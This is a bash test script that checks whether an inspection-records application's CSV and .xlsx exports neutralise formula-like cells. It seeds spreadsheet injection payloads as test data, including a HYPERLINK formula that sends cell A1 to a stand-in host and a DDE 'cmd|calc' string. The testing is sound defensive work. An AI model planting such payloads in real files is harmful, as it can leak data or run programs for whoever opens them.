#!/usr/bin/env bash
# export_formula.sh — no export hands a spreadsheet a formula (issue 13). Every export, each
# with cells beginning with = + - @, a tab and a CR (and a full-width ＝): a resident's
# finding (summary, basis) through /api/leads/export and `zhijian leads --format csv`;
# rejected feed rows whose raw line begins with each prefix through `zhijian rejects
# --format csv`; facility names through `zhijian facilities --format csv` (FAC-01) — each such
# cell comes out as text (prefixed with ' and quoted), plain numbers stay numbers. The .xlsx
# exports (/api/leads/export.xlsx, /api/import/rejects.xlsx, `zhijian leads|rejects --format
# xlsx`, the workbooks of `zhijian profile export`) hold every such cell as a string, never a
# formula. A severity outside high/medium/low, a family that is not an id, a complaint channel
# and a talk kind outside their lists are refused.
# Needs: ZJ, ZJ_SOURCE_DIR, curl, python3, sqlite3.
source "$(dirname "$0")/web_lib.bash"
seed_db
start_server
login admin adminpass1
login res1 respass123

expect 201 admin POST /api/inspections '{"kind":"routine","facility_id":"P3201","from":"2025-07-01","to":"2025-07-10","team":false}'
ins=$(body_get "j['inspection_id']")
# each prefix once in the summary, and one in the basis
payloads=('=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")' '+1+cmd|calc!A0' '-2+3' '@SUM(A1:A9)' '\tTAB=1' '\rCR=1' '＝1+1')
for p in "${payloads[@]}"; do
  expect 201 res1 POST "/api/inspections/$ins/findings" "{\"summary\":\"$p\",\"family\":\"custody\",\"severity\":\"high\",\"person_id\":\"R001\"}"
done
expect 201 res1 POST "/api/inspections/$ins/findings" '{"summary":"依据有误","family":"custody","severity":"low","person_id":"R001","basis":"=1+1"}'
# closed vocabularies on input
expect 400 res1 POST "/api/inspections/$ins/findings" '{"summary":"x","family":"custody","severity":"=HYPERLINK(1)","person_id":"R001"}'
expect 400 res1 POST "/api/inspections/$ins/findings" '{"summary":"x","family":"=1","severity":"low","person_id":"R001"}'
expect 400 res1 POST /api/complaints '{"facility_id":"P3201","kind":"petition","channel":"=HYPERLINK(1)","content":"x"}'
grep -q "unknown channel" "$T/body" || fail "channel: $(cat "$T/body")"
expect 400 res1 POST /api/office/talks '{"facility_id":"P3201","person_id":"R001","kind":"@SUM(1)","content":"x"}'
grep -q "unknown talk kind" "$T/body" || fail "talk kind: $(cat "$T/body")"
expect 201 res1 POST /api/office/talks '{"facility_id":"P3201","person_id":"R001","kind":"admission","content":"入监谈话"}'

# check_csv FILE [WANT...]: no cell of the CSV is one a spreadsheet would evaluate (a plain
# number aside), and each WANT begins some cell (the neutralised ones, with their ')
check_csv() {
  python3 - "$@" <<'PY'
import csv, re, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8", newline="")))
wide = ("\uff1d", "\uff0b", "\uff0d", "\uff20")
bad = [c for r in rows for c in r
       if c and (c[0] in "=+-@\t\r" or c.startswith(wide)) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", c)]
if bad:
    sys.exit("formula cells: %r" % bad[:5])
cells = [c for r in rows for c in r]
for want in sys.argv[2:]:
    if not any(c.startswith(want) for c in cells):
        sys.exit("missing neutralised cell %r" % want)
PY
}
LEAD_WANT=("'=HYPERLINK(" "'+1+cmd" "'-2+3" "'@SUM(" $'\'\tTAB=1' $'\'\rCR=1' "'＝1+1" "'=1+1")
code=$(curl -sS -o "$T/web.csv" -w '%{http_code}' -b "$T/res1.jar" "$BASE/api/leads/export")
[ "$code" = 200 ] || fail "export: HTTP $code"
check_csv "$T/web.csv" "${LEAD_WANT[@]}" || fail "web export"
"$ZJ" leads --db "$DB" --format csv > "$T/cli.csv"
check_csv "$T/cli.csv" "${LEAD_WANT[@]}" || fail "zhijian leads --format csv"

# rejected feed rows whose raw line begins with each prefix: `zhijian rejects --format csv`
mkdir "$T/feeds"
{ printf 'facility_id,name,kind,region_code,designated\n'
  printf '=HYPERLINK("http://x"),a,jail,110105,\nF9,@SUM(1),prison,-1+2,\n'
  printf '+1+cmd|calc,a,jail,110105,\n-1+cmd,a,jail,110105,\n@SUM(A1),a,jail,110105,\n'
  printf '\tTAB=1,a,jail,110105,\n"\rCR=1",a,jail,110105,\n'; } > "$T/feeds/facilities.csv"
"$ZJ" import --db "$T/rej.db" --as-of 2025-06-30 "$T/feeds" >/dev/null 2>&1 || true
"$ZJ" rejects --db "$T/rej.db" --format csv > "$T/rej.csv"
[ "$(sqlite3 "$T/rej.db" "SELECT count(*) FROM rejects")" -ge 7 ] || fail "rejects: $(cat "$T/rej.csv")"
check_csv "$T/rej.csv" "'=HYPERLINK" "'+1+cmd" "'-1+cmd" "'@SUM(A1)" $'\'\tTAB=1' || fail "rejects --format csv"

# facility names through the FAC-01 ranking: `zhijian facilities --format csv`
cp "$DB" "$T/fac.db"
sqlite3 "$T/fac.db" "INSERT INTO facilities(facility_id, name, kind, region_code) VALUES
  ('PX1', '=HYPERLINK(\"http://x\")', 'prison', '320100'), ('PX2', '+1+cmd', 'prison', '320100'),
  ('PX3', '-1+cmd', 'prison', '320100'), ('PX4', '@SUM(A1)', 'prison', '320100'),
  ('PX5', char(9) || 'TAB=1', 'prison', '320100'), ('PX6', char(13) || 'CR=1', 'prison', '320100');
  INSERT INTO persons(person_id, name, gender, birth_date) SELECT 'X' || substr(facility_id, 3),
  '某', 'M', '1980-01-01' FROM facilities WHERE facility_id LIKE 'PX%';
  INSERT INTO custody(event_id, person_id, facility_id, event_type, event_date)
  SELECT 'EX' || substr(facility_id, 3), 'X' || substr(facility_id, 3), facility_id, 'admit',
  '2025-01-01' FROM facilities WHERE facility_id LIKE 'PX%';"
"$ZJ" facilities --db "$T/fac.db" --as-of 2025-07-01 --format csv > "$T/fac.csv"
check_csv "$T/fac.csv" "'=HYPERLINK" "'+1+cmd" "'-1+cmd" "'@SUM(A1)" $'\'\tTAB=1' $'\'\rCR=1' \
  || fail "facilities --format csv: $(head -c 600 "$T/fac.csv")"

# check_xlsx FILE TEXT...: no formula cell, a frozen header (unless FROZEN=0), and each TEXT
# in some cell
check_xlsx() {
  FROZEN=${FROZEN:-1} python3 - "$@" <<'PY'
import os, re, sys, zipfile
FROZEN = os.environ["FROZEN"] == "1"
z = zipfile.ZipFile(sys.argv[1])
sheet = z.read("xl/worksheets/sheet1.xml").decode()
strings = z.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in z.namelist() else ""
if "<f>" in sheet or "<f " in sheet:
    sys.exit("formula in " + sys.argv[1])
if FROZEN and 'state="frozen"' not in sheet:
    sys.exit("no frozen header in " + sys.argv[1])
text = sheet + strings
for want in sys.argv[2:]:
    esc = want.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    if want not in text and esc not in text:
        sys.exit("missing %r in %s" % (want, sys.argv[1]))
PY
}
code=$(curl -sS -o "$T/web.xlsx" -w '%{http_code}' -b "$T/res1.jar" "$BASE/api/leads/export.xlsx")
[ "$code" = 200 ] || fail "export.xlsx: HTTP $code"
check_xlsx "$T/web.xlsx" "线索清单" "严重程度" '=HYPERLINK(' '@SUM(A1:A9)' || fail "web export.xlsx"
"$ZJ" leads --db "$DB" --format xlsx --out "$T/cli.xlsx"
check_xlsx "$T/cli.xlsx" "摘要" '+1+cmd|calc!A0' || fail "zhijian leads --format xlsx"
"$ZJ" rejects --db "$T/rej.db" --format xlsx --out "$T/rej.xlsx"
check_xlsx "$T/rej.xlsx" "导入退回的数据" '=HYPERLINK("http://x"),a,jail,110105,' "类别“jail”无法识别" || fail "rejects --format xlsx"

# a source system's workbook with formula-like names (`zhijian profile export`), uploaded on
# the import page: its rejected rows come back in /api/import/rejects.xlsx as strings
echo 'clerkpass1' | "$ZJ" user add clerk --role clerk --scope 32 --password-stdin --db "$DB" >/dev/null
login clerk clerkpass1
mkdir -p "$T/inj/xlsx"
printf 'person_id,id_number,name,gender,birth_date\nW1,,=HYPERLINK("http://x"),X,1980-01-05\nW2,,@SUM(A1),X,1980-03-15\nW3,,-1+cmd,M,1981-02-03\n' > "$T/inj/persons.csv"
"$ZJ" profile export prison_roster "$T/inj" "$T/inj/xlsx" >/dev/null
FROZEN=0 check_xlsx "$T/inj/xlsx/prison_roster.xlsx" '=HYPERLINK(' '@SUM(A1)' '-1+cmd' || fail "profile export"
code=$(curl -sS -o "$T/body" -w '%{http_code}' -b "$T/clerk.jar" -H "X-CSRF-Token: $(cat "$T/clerk.csrf")" \
  -H 'Content-Type: application/octet-stream' --data-binary "@$T/inj/xlsx/prison_roster.xlsx" \
  "$BASE/api/import/upload?name=inj.xlsx&profile=auto&wait=1")
[ "$code" = 200 ] || fail "upload: HTTP $code $(cat "$T/body")"
code=$(curl -sS -o "$T/upl.xlsx" -w '%{http_code}' -b "$T/clerk.jar" "$BASE/api/import/rejects.xlsx?file=inj.xlsx")
[ "$code" = 200 ] || fail "rejects.xlsx: HTTP $code"
check_xlsx "$T/upl.xlsx" '=HYPERLINK(' '@SUM(A1)' || fail "/api/import/rejects.xlsx"
echo ok
